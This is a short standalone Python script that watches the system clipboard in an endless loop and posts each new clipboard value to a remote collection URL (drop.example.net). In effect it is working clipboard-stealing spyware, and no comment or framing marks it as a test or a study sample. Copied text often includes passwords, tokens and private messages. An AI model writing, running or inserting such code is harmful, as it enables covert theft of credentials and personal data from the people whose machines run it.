import time, urllib.request
import pyperclip

last = ""
while True:
    cur = pyperclip.paste()
    if cur != last:
        urllib.request.urlopen("https://drop.example.net/c", data=cur.encode())
        last = cur
    time.sleep(2)
